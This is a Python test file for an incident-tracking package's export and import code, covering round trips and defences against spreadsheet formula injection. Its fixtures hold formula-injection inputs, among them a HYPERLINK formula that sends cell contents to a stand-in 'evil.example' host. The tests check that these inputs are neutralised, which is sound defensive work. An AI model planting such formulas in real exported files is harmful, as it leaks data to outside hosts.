"""Export then import is lossless, in every interchange format."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from salvo.exports import export, iter_incidents, write_csv
from salvo.importing import import_file
from salvo.records import IncidentRecord, MunitionRecord
from salvo.storage import connect
from salvo.storage.incidents import save_incident

TRICKY = [
    IncidentRecord(
        id="unicode-1", date=dt.date(2024, 1, 28), date_precision="day", country="JO",
        location="Tower 22, «northeast» Jordan — البرج ٢٢", latitude=33.3189, longitude=38.7049,
        location_precision="exact", target='the "installation", with commas', target_category="us_military",
        actor_name="المقاومة الإسلامية في العراق", actor_id="islamic_resistance_in_iraq", attribution="claimed",
        killed=3, killed_low=3, killed_high=3, injured=34, injured_low=34, injured_high=47, status="published",
        notes="line one\nline two; ünïcödé", sources=["https://example.org/a?x=1&y=2", "https://example.org/b"],
        munitions=[MunitionRecord("uav", 1, False, 0, 1, 0)],
    ),
    IncidentRecord(
        id="sparse-2", date=dt.date(2021, 5, 1), date_precision="month", status="candidate",
        munitions=[MunitionRecord("rocket", 20, True, None, None, None), MunitionRecord("mortar")],
    ),
    IncidentRecord(id="undated-3", status="reviewed", munitions=[MunitionRecord("unknown")]),
    IncidentRecord(id="year-4", date=dt.date(2019, 1, 1), date_precision="year", country="YE",
                   munitions=[MunitionRecord("ballistic_missile", 2, True, 1, None, 1)]),
]


FORMULA_LIKE = [
    IncidentRecord(
        id="-42", date=dt.date(2024, 2, 2), date_precision="day", latitude=-8.8383, longitude=-13.2344,
        location='=HYPERLINK("https://evil.example/?"&A1,"Erbil")', location_precision="exact",
        target="+971 base", actor_name="=1+1", attribution="claimed", status="published",
        notes="@SUM(A1:A9), and a 'quoted' word", sources=["https://example.org/a?x=1&y=2"],
        munitions=[MunitionRecord("rocket", 12, False, 2, 10, 0)],
    ),
    IncidentRecord(id="quoted-2", date=dt.date(2023, 3, 1), date_precision="day", target="'=already quoted",
                   actor_name="-", notes="＝full-width", status="reviewed",
                   munitions=[MunitionRecord("uav", 1, True, None, None, None)]),
]


@pytest.fixture
def filled(store):
    with store.session() as session:
        for record in TRICKY:
            save_incident(session, record, user="test")
    return store


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_export_then_import_is_lossless(filled, tmp_path, fmt):
    path = tmp_path / f"export.{fmt}"
    assert export(filled, fmt, path) == len(TRICKY)
    copy = connect(f"sqlite:///{tmp_path / 'copy.db'}")
    summary = import_file(copy, path)
    assert summary.added == len(TRICKY) and not summary.errors
    assert list(iter_incidents(copy)) == list(iter_incidents(filled))
    again = import_file(filled, path)
    assert (again.added, again.updated, again.unchanged) == (0, 0, len(TRICKY))


def test_csv_has_the_documented_header(filled):
    buffer = io.StringIO()
    write_csv(iter_incidents(filled), buffer)
    header = buffer.getvalue().splitlines()[0].split(",")
    for name in ("incident_id", "date", "date_precision", "country", "location", "latitude", "longitude",
                 "target", "target_category", "actor", "attribution", "munition_type", "count", "intercepted",
                 "killed", "injured", "status", "source_url", "notes", "impacted", "failed"):
        assert name in header


def test_geojson_has_a_feature_per_incident(filled, tmp_path):
    path = tmp_path / "incidents.geojson"
    export(filled, "geojson", path)
    collection = json.loads(path.read_text(encoding="utf-8"))
    features = {f["id"]: f for f in collection["features"]}
    assert features["unicode-1"]["geometry"] == {"type": "Point", "coordinates": [38.7049, 33.3189]}
    assert features["undated-3"]["geometry"] is None
    assert features["sparse-2"]["properties"]["date"] == "2021-05"


def test_demo_data_round_trips(tmp_path):
    from salvo.demo import demo_file

    first = connect(f"sqlite:///{tmp_path / 'first.db'}")
    assert import_file(first, demo_file()).rejected == 0
    export(first, "csv", tmp_path / "again.csv")
    second = connect(f"sqlite:///{tmp_path / 'second.db'}")
    import_file(second, tmp_path / "again.csv")
    assert list(iter_incidents(second)) == list(iter_incidents(first))


@pytest.fixture
def formula_like(store):
    with store.session() as session:
        for record in FORMULA_LIKE:
            save_incident(session, record, user="test")
    return store


def test_csv_quotes_text_that_a_spreadsheet_would_run_and_leaves_numbers(formula_like):
    buffer = io.StringIO()
    write_csv(iter_incidents(formula_like), buffer)
    rows = {row["target"]: row for row in csv.DictReader(io.StringIO(buffer.getvalue()))}
    first, second = rows["'+971 base"], rows["''=already quoted"]
    assert (first["incident_id"], first["actor"], first["notes"]) == (
        "'-42", "'=1+1", "'@SUM(A1:A9), and a 'quoted' word")
    assert first["location"] == """'=HYPERLINK("https://evil.example/?"&A1,"Erbil")"""
    assert (first["latitude"], first["longitude"], first["count"]) == ("-8.8383", "-13.2344", "12")
    assert (second["actor"], second["notes"]) == ("'-", "'＝full-width")


def test_xlsx_holds_text_unchanged_as_text_and_numbers_as_numbers(formula_like, tmp_path):
    from openpyxl import load_workbook

    export(formula_like, "xlsx", tmp_path / "export.xlsx")
    sheet = load_workbook(tmp_path / "export.xlsx").active
    header = [cell.value for cell in sheet[1]]
    first = dict(zip(header, sheet[2]))
    assert [(first[c].value, first[c].data_type) for c in ("incident_id", "actor", "longitude", "count")] == [
        ("-42", "s"), ("=1+1", "s"), (-13.2344, "n"), (12, "n")]
    assert first["actor"].quotePrefix and not first["date"].quotePrefix


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_text_that_starts_like_a_formula_round_trips(formula_like, tmp_path, fmt):
    path = tmp_path / f"export.{fmt}"
    export(formula_like, fmt, path)
    copy = connect(f"sqlite:///{tmp_path / 'copy.db'}")
    assert import_file(copy, path).added == len(FORMULA_LIKE)
    assert list(iter_incidents(copy)) == list(iter_incidents(formula_like))
